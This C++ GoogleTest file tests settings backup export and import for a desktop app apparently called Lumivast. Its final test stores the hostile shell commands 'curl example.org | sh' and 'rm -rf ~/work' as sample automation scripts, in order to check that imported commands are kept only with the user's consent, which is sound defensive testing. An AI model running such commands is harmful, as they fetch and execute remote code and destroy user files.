#include "Core/Settings/Settings.h"
#include "Core/Shell/SettingsTransfer.h"
#include "Core/Spaces/AppPaths.h"
#include "Core/Spaces/SpaceStore.h"
#include "Platform/VirtualScheduler.h"
#include "tests/support/TestEnv.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>

#include <gtest/gtest.h>

using namespace lumivast;
namespace Key = lumivast::Settings::Key;

namespace {

class SettingsBackupTest : public test::TempHomeTest {
protected:
    SettingsBackupTest() { Settings::registerDefaults(); }

    static SpaceMetaMap sampleMetas()
    {
        SpaceAutomation automation;
        automation.launchApps = {QStringLiteral("org.example.editor")};
        automation.openURLs = {QStringLiteral("https://example.org/a/b")};
        return {
            {QStringLiteral("0A4E2F1C-5B7D-4C1E-9F3A-1D2C3B4A5E61"),
             SpaceMeta{.name = QStringLiteral("Mail"), .symbol = QStringLiteral("envelope"), .colorHex = QStringLiteral("#FF8800"),
                       .note = QStringLiteral("inbox \"zero\"\nsecond line")}},
            {QStringLiteral("6F1B8E2D-3C4A-4B5E-8D7F-2E3F4A5B6C72"),
             SpaceMeta{.name = QStringLiteral("Code"), .automation = automation, .group = QStringLiteral("Work")}},
            {QStringLiteral("fs:org.example.player"), SpaceMeta{.colorHex = QStringLiteral("00AAFF")}},
        };
    }

    static QJsonObject parse(const QByteArray& bytes) { return QJsonDocument::fromJson(bytes).object(); }

    // A backup with the given settings entries and no Spaces.
    static QByteArray backupWith(const QJsonObject& settings)
    {
        QJsonObject root{{"version", 1}, {"exportedAt", "2024-05-01T12:34:56Z"}, {"spaces", QJsonObject{}}, {"settings", settings}};
        return QJsonDocument(root).toJson();
    }

    VirtualScheduler scheduler;
    SpaceStore store{scheduler, AppPaths::file(QStringLiteral("spaces.json"))};
};

TEST_F(SettingsBackupTest, FreshInstallExportsEveryRegisteredExportableSetting)
{
    const QJsonObject root = parse(SettingsTransfer::exportData(store, scheduler));
    EXPECT_EQ(root.value("version"), QJsonValue(1));
    EXPECT_EQ(root.value("exportedAt"), QJsonValue("2026-01-05T09:00:00Z"));
    EXPECT_EQ(root.value("spaces"), QJsonValue(QJsonObject{}));

    const QJsonObject settings = root.value("settings").toObject();
    EXPECT_EQ(settings.size(), 46);
    EXPECT_FALSE(settings.contains(Key::overviewOrder));
    EXPECT_FALSE(settings.contains(Key::activeProfile));
    EXPECT_FALSE(settings.contains(Key::didShowOnboarding));
    EXPECT_EQ(settings.value(Key::hudEnabled), QJsonValue("[true]"));
    EXPECT_EQ(settings.value(Key::hudDuration), QJsonValue("[1.2]"));
    EXPECT_EQ(settings.value(Key::gridColumns), QJsonValue("[0]"));
    EXPECT_EQ(settings.value(Key::switchMode), QJsonValue("[\"instant\"]"));
    EXPECT_EQ(settings.value(Key::scratchpadApp), QJsonValue("[\"\"]"));

    Settings::defaults().set(Key::overviewOrder, QJsonArray{"b", "a"});
    const QJsonObject after = parse(SettingsTransfer::exportData(store, scheduler)).value("settings").toObject();
    EXPECT_EQ(after.size(), 47);
    EXPECT_EQ(after.value(Key::overviewOrder), QJsonValue("[[\"b\",\"a\"]]"));
}

TEST_F(SettingsBackupTest, FileIsPrettyPrintedWithSortedKeys)
{
    store.replaceAll(sampleMetas());
    const QByteArray bytes = SettingsTransfer::exportData(store, scheduler);
    EXPECT_TRUE(bytes.contains("\n    \"exportedAt\": \"2026-01-05T09:00:00Z\",\n"));
    const auto at = [&](const char* text) { return bytes.indexOf(text); };
    EXPECT_LT(at("\"exportedAt\""), at("\"settings\""));
    EXPECT_LT(at("\"settings\""), at("\"spaces\""));
    EXPECT_LT(at("\"spaces\""), at("\"version\""));
    EXPECT_LT(at("\"askToNameNewSpaces\""), at("\"wrapAround\""));
    EXPECT_LT(at("\"colorHex\""), at("\"name\""));
    // The inner text of a string setting is escaped like any other string.
    EXPECT_TRUE(bytes.contains(R"("switchMode": "[\"instant\"]")"));
}

TEST_F(SettingsBackupTest, RoundTripRestoresSettingsAndSpaces)
{
    store.replaceAll(sampleMetas());
    Settings::defaults().set(Key::switchMode, QStringLiteral("classic"));
    Settings::defaults().set(Key::hudDuration, 2.5);
    Settings::defaults().set(Key::gridColumns, 4);
    Settings::defaults().set(Key::overviewOrder, QJsonArray{"x", "y"});
    const QByteArray backup = SettingsTransfer::exportData(store, scheduler);

    // Somewhere else: other settings, other Spaces.
    Settings::defaults().set(Key::switchMode, QStringLiteral("instant"));
    Settings::defaults().set(Key::hudDuration, 1.0);
    Settings::defaults().remove(Key::gridColumns);
    Settings::defaults().remove(Key::overviewOrder);
    store.replaceAll({{QStringLiteral("other"), SpaceMeta{.name = QStringLiteral("Other")}}});
    scheduler.advance(1s);

    QSignalSpy published(&store, &SpaceStore::changed);
    const auto report = SettingsTransfer::importData(backup, store);
    ASSERT_TRUE(report.has_value());
    EXPECT_EQ(report->settingsApplied, 47);
    EXPECT_EQ(report->settingsSkipped, 0);

    EXPECT_EQ(Settings::switchMode(), SwitchMode::classic);
    EXPECT_EQ(Settings::defaults().doubleValue(Key::hudDuration), 2.5);
    EXPECT_EQ(Settings::defaults().integerValue(Key::gridColumns), 4);
    EXPECT_EQ(Settings::defaults().stringList(Key::overviewOrder), (QStringList{"x", "y"}));
    // Values that were only registered defaults are now the user's own.
    EXPECT_TRUE(Settings::defaults().hasStoredValue(Key::hudEnabled));
    EXPECT_EQ(Settings::defaults().object(Key::hudEnabled), QJsonValue(true));

    EXPECT_EQ(store.metas(), sampleMetas());
    EXPECT_EQ(published.count(), 1);
    EXPECT_TRUE(store.isSavePending());
    scheduler.advance(SpaceStore::saveDelay);
    QFile file(store.filePath());
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    EXPECT_EQ(SpaceMetaCoding::fromFileBytes(file.readAll()), sampleMetas());

    // Exporting again gives the same settings and Spaces.
    const QJsonObject again = parse(SettingsTransfer::exportData(store, scheduler));
    EXPECT_EQ(again.value("settings"), parse(backup).value("settings"));
    EXPECT_EQ(again.value("spaces"), parse(backup).value("spaces"));
}

TEST_F(SettingsBackupTest, BadSettingsEntriesAreSkippedAndCounted)
{
    const QJsonObject entries{
        {Key::switchMode, "[\"classic\"]"},       // applied
        {Key::gridColumns, "[3]"},                 // applied
        {Key::hudDuration, "[2]"},                 // applied: a whole number is a number
        {Key::hudEnabled, QJsonValue::Null},       // null entry
        {Key::wrapAround, "[null]"},               // null value
        {Key::spaceLock, "[\"yes\"]"},             // text for a Boolean
        {Key::hudPosition, "[1]"},                 // number for a text
        {Key::hudSize, "[\"large\",\"small\"]"},   // applied: the first element counts
        {Key::overviewOrder, "[[\"a\",1]]"},       // list with a number
        {Key::localAPI, "true"},                   // bare value, not an array
        {Key::timeTracking, "[]"},                 // empty array
        {Key::desktopLabel, "[tru"},               // not JSON
        {Key::activeProfile, "[\"Work\"]"},        // not exported
        {Key::demoMode, "[true]"},                 // not exported
    };
    Settings::defaults().set(Key::wrapAround, false);
    const auto report = SettingsTransfer::importData(backupWith(entries), store);
    ASSERT_TRUE(report.has_value());
    EXPECT_EQ(report->settingsApplied, 4);
    EXPECT_EQ(report->settingsSkipped, 10);

    UserDefaults& d = Settings::defaults();
    EXPECT_EQ(Settings::switchMode(), SwitchMode::classic);
    EXPECT_EQ(d.integerValue(Key::gridColumns), 3);
    EXPECT_EQ(d.doubleValue(Key::hudDuration), 2.0);
    EXPECT_EQ(Settings::hudSize(), HUDSize::large);
    for (const QString& untouched : {Key::hudEnabled, Key::spaceLock, Key::hudPosition, Key::overviewOrder, Key::localAPI,
                                     Key::timeTracking, Key::desktopLabel, Key::activeProfile, Key::demoMode}) {
        SCOPED_TRACE(untouched.toStdString());
        EXPECT_FALSE(d.hasStoredValue(untouched));
    }
    EXPECT_EQ(d.object(Key::wrapAround), QJsonValue(false));
}

TEST_F(SettingsBackupTest, FilesThatAreNoBackupChangeNothing)
{
    const QByteArray valid = backupWith({{Key::switchMode, "[\"classic\"]"}});
    const auto without = [&](const char* member) {
        QJsonObject root = parse(valid);
        root.remove(member);
        return QJsonDocument(root).toJson();
    };
    const auto with = [&](const char* member, const QJsonValue& value) {
        QJsonObject root = parse(valid);
        root.insert(member, value);
        return QJsonDocument(root).toJson();
    };
    struct Case {
        const char* name;
        QByteArray bytes;
        SettingsTransfer::BackupFailure failure;
    };
    using F = SettingsTransfer::BackupFailure;
    const Case cases[] = {
        {"not JSON", "{ version", F::notJSON},
        {"an array", "[]", F::notJSON},
        {"no settings", without("settings"), F::missingField},
        {"no version", without("version"), F::missingField},
        {"no date", without("exportedAt"), F::missingField},
        {"no spaces", without("spaces"), F::missingField},
        {"version as text", with("version", "1"), F::missingField},
        {"setting that is a number", with("settings", QJsonObject{{Key::gridColumns, 3}}), F::missingField},
        {"fractional seconds", with("exportedAt", "2024-05-01T12:34:56.250Z"), F::badDate},
        {"no zone", with("exportedAt", "2024-05-01T12:34:56"), F::badDate},
        {"date only", with("exportedAt", "2024-05-01"), F::badDate},
        {"Space of the wrong type", with("spaces", QJsonObject{{"A", QJsonObject{{"name", 5}}}}), F::badSpaces},
    };
    store.replaceAll(sampleMetas());
    scheduler.advance(1s);
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        const auto report = SettingsTransfer::importData(c.bytes, store);
        ASSERT_FALSE(report.has_value());
        EXPECT_EQ(report.error(), c.failure);
        EXPECT_FALSE(SettingsTransfer::description(c.failure).isEmpty());
        EXPECT_EQ(Settings::switchMode(), SwitchMode::instant);
        EXPECT_EQ(store.metas(), sampleMetas());
        EXPECT_FALSE(store.isSavePending());
    }
}

TEST_F(SettingsBackupTest, OtherVersionsAndZonesAreImportedAndEmptySpacesClearAll)
{
    store.replaceAll(sampleMetas());
    QJsonObject root = parse(backupWith({{Key::switchMode, "[\"classic\"]"}}));
    root.insert("version", 2);
    root.insert("exportedAt", "2024-05-01T14:34:56+02:00");
    const auto report = SettingsTransfer::importData(QJsonDocument(root).toJson(), store);
    ASSERT_TRUE(report.has_value());
    EXPECT_EQ(Settings::switchMode(), SwitchMode::classic);
    EXPECT_TRUE(store.metas().empty());

    const auto bundle = SettingsTransfer::decode(QJsonDocument(root).toJson());
    ASSERT_TRUE(bundle.has_value());
    EXPECT_EQ(bundle->version, 2);
    EXPECT_EQ(bundle->exportedAt, QDateTime(QDate(2024, 5, 1), QTime(12, 34, 56), Qt::UTC));
}

} // namespace

TEST_F(SettingsBackupTest, ExportIsWrittenWholeOrNotAtAll)
{
    store.replaceAll(sampleMetas());
    const QString target = home.path("Lumivast Settings.json");
    ASSERT_TRUE(SettingsTransfer::exportTo(target, store, scheduler));
    QFile written(target);
    ASSERT_TRUE(written.open(QIODevice::ReadOnly));
    EXPECT_EQ(written.readAll(), SettingsTransfer::exportData(store, scheduler));

    // A name so long that no temporary file can be made beside it: the write
    // fails after the earlier backup of that name was there, which stays whole.
    const QString earlier = home.path(QString(250, QLatin1Char('b')) + ".json");
    {
        QFile file(earlier);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write("earlier backup");
    }
    const auto failed = SettingsTransfer::exportTo(earlier, store, scheduler);
    ASSERT_FALSE(failed);
    EXPECT_EQ(failed.error(), "File name too long");
    QFile kept(earlier);
    ASSERT_TRUE(kept.open(QIODevice::ReadOnly));
    EXPECT_EQ(kept.readAll(), "earlier backup");

    // A folder in the way of the file.
    EXPECT_FALSE(SettingsTransfer::exportTo(home.path(), store, scheduler));
}

TEST_F(SettingsBackupTest, ShellCommandsInABackupAreKeptOnlyWithTheUsersConsent)
{
    SpaceAutomation scripted;
    scripted.launchApps = {QStringLiteral("org.example.editor")};
    scripted.scriptOnEnter = QStringLiteral("curl example.org | sh");
    scripted.scriptOnLeave = QStringLiteral("rm -rf ~/work");
    SpaceAutomation onlyScript;
    onlyScript.scriptOnEnter = QStringLiteral("touch ~/owned");
    const SpaceMetaMap metas{{QStringLiteral("S1"), SpaceMeta{.name = QStringLiteral("Mail"), .automation = scripted}},
                             {QStringLiteral("S2"), SpaceMeta{.name = QStringLiteral("Code"), .automation = onlyScript}}};
    store.replaceAll(metas);
    const QByteArray backup = SettingsTransfer::exportData(store, scheduler);
    EXPECT_EQ(SettingsTransfer::shellCommands(metas),
              (QStringList{"curl example.org | sh", "rm -rf ~/work", "touch ~/owned"}));

    SpaceAutomation withoutScripts = scripted;
    withoutScripts.scriptOnEnter.reset();
    withoutScripts.scriptOnLeave.reset();
    const SpaceMetaMap stripped{{QStringLiteral("S1"), SpaceMeta{.name = QStringLiteral("Mail"), .automation = withoutScripts}},
                                {QStringLiteral("S2"), SpaceMeta{.name = QStringLiteral("Code")}}};
    struct Case {
        const char* what;
        std::optional<bool> answer; // nothing: no one to ask
        SpaceMetaMap kept;
    };
    for (const Case& c : {Case{"no one asked", std::nullopt, stripped}, Case{"declined", false, stripped}, Case{"agreed", true, metas}}) {
        store.replaceAll({});
        QStringList shown;
        SettingsTransfer::CommandConsent consent;
        if (c.answer) {
            consent = [&](const QStringList& commands) {
                shown = commands;
                return *c.answer;
            };
        }
        ASSERT_TRUE(SettingsTransfer::importData(backup, store, consent)) << c.what;
        EXPECT_EQ(store.metas(), c.kept) << c.what;
        if (c.answer) {
            EXPECT_EQ(shown, SettingsTransfer::shellCommands(metas)) << c.what;
        }
    }

    // A backup without commands asks nothing.
    store.replaceAll(stripped);
    bool asked = false;
    ASSERT_TRUE(SettingsTransfer::importData(SettingsTransfer::exportData(store, scheduler), store, [&](const QStringList&) {
        asked = true;
        return false;
    }));
    EXPECT_FALSE(asked);
}
